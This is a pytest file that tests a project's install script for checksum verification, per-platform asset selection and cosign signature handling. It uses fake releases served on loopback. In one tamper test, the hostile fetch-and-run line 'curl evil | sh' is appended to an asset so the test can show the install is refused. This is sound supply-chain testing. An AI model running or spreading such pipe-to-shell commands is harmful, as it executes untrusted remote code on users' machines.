"""dist-scripts/install.sh against a release served from a loopback file server (ADR 28): it picks
this machine's asset, checks it against checksums.txt, and refuses a tampered one."""

import functools
import hashlib
import http.server
import os
import shutil
import subprocess
import threading
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
SCRIPT = ROOT / "dist-scripts/install.sh"
TARGETS = ["linux-x86_64", "linux-aarch64", "macos-arm64", "macos-x86_64"]


def fake_asset(target: str) -> bytes:
    return f"#!/bin/sh\necho leoflow 9.9.9 for {target}\n".encode()


@pytest.fixture
def release(tmp_path):
    """A release folder as the workflow publishes it, on http://127.0.0.1:PORT."""
    folder = tmp_path / "release"
    folder.mkdir()
    lines = []
    for target in TARGETS:
        for name, body in ((f"leoflow-9.9.9-{target}", fake_asset(target)),
                           (f"leoflow-9.9.9-{target}-onedir.tar.gz", b"not this one"),
                           (f"leoflow-9.9.9-{target}.cdx.json", b"{}")):
            (folder / name).write_bytes(body)
            lines.append(f"{hashlib.sha256(body).hexdigest()}  {name}\n")
    (folder / "checksums.txt").write_text("".join(sorted(lines, key=lambda s: s.split()[1])))
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(folder))
    handler.log_message = lambda *a: None
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield folder, f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def install(tmp_path: Path, url: str, uname: tuple[str, str] | None = None) -> subprocess.CompletedProcess:
    """Runs install.sh with PATH limited to this machine's tools (no cosign); `uname` replaces uname(1)."""
    tools = tmp_path / "tools"
    tools.mkdir(exist_ok=True)
    for tool in ("curl", "sha256sum", "grep", "cut", "head", "mktemp", "mkdir", "chmod", "mv", "rm", "cat"):
        found = shutil.which(tool)
        if found and not (tools / tool).exists():
            (tools / tool).symlink_to(found)
    uname_tool = tools / "uname"
    uname_tool.unlink(missing_ok=True)
    if uname:
        uname_tool.write_text(f'#!/bin/sh\ncase "$1" in -s) echo {uname[0]} ;; -m) echo {uname[1]} ;; esac\n')
        uname_tool.chmod(0o755)
    else:
        uname_tool.symlink_to(shutil.which("uname"))
    env = {"PATH": str(tools), "HOME": str(tmp_path / "home"), "LEOFLOW_RELEASE_URL": url,
           "LEOFLOW_INSTALL_DIR": str(tmp_path / "bin")}
    return subprocess.run(["/bin/sh", str(SCRIPT)], env=env, capture_output=True, text=True, timeout=60)


def this_target() -> str:
    machine = os.uname().machine
    return {"Linux": "linux", "Darwin": "macos"}[os.uname().sysname] + "-" + (
        "x86_64" if machine in ("x86_64", "amd64") else "aarch64")


def test_installs_this_machines_executable(release, tmp_path):
    folder, url = release
    out = install(tmp_path, url)
    assert out.returncode == 0, out.stderr
    installed = tmp_path / "bin" / "leoflow"
    assert installed.read_bytes() == fake_asset(this_target())
    assert os.access(installed, os.X_OK)
    assert subprocess.run([str(installed)], capture_output=True, text=True).stdout == f"leoflow 9.9.9 for {this_target()}\n"
    assert "cosign not found" in out.stdout and "is not on your PATH" in out.stdout


@pytest.mark.parametrize("uname,target", [(("Darwin", "arm64"), "macos-arm64"), (("Darwin", "x86_64"), "macos-x86_64"),
                                          (("Linux", "aarch64"), "linux-aarch64"), (("Linux", "amd64"), "linux-x86_64")])
def test_picks_the_asset_for_the_os_and_cpu(release, tmp_path, uname, target):
    folder, url = release
    out = install(tmp_path, url, uname)
    assert out.returncode == 0, out.stderr
    assert (tmp_path / "bin" / "leoflow").read_bytes() == fake_asset(target)


def test_a_tampered_asset_is_refused_and_nothing_installed(release, tmp_path):
    folder, url = release
    asset = folder / f"leoflow-9.9.9-{this_target()}"
    asset.write_bytes(asset.read_bytes() + b"curl evil | sh\n")
    out = install(tmp_path, url)
    assert out.returncode == 1
    assert "does not match checksums.txt" in out.stderr and "not installing" in out.stderr
    assert not (tmp_path / "bin" / "leoflow").exists()


def test_no_asset_for_this_platform_says_so(release, tmp_path):
    folder, url = release
    for unknown in (("Linux", "riscv64"), ("FreeBSD", "amd64")):
        out = install(tmp_path, url, unknown)
        assert out.returncode == 1 and out.stderr.startswith("leoflow install: no executable for"), out.stderr


def test_with_cosign_present_an_unsigned_or_badly_signed_release_is_refused(release, tmp_path):
    """cosign itself is not on these machines: a stand-in that rejects every signature shows that
    install.sh stops on its verdict (the workflow's install smoke test runs the real cosign)."""
    folder, url = release
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "cosign").write_text("#!/bin/sh\nexit 1\n")
    (tools / "cosign").chmod(0o755)
    out = install(tmp_path, url)
    assert out.returncode == 1 and "has no signature" in out.stderr, out.stderr
    (folder / "checksums.txt.sigstore.json").write_text("{}")
    out = install(tmp_path, url)
    assert out.returncode == 1 and "does not verify: not installing" in out.stderr, out.stderr
    assert not (tmp_path / "bin" / "leoflow").exists()
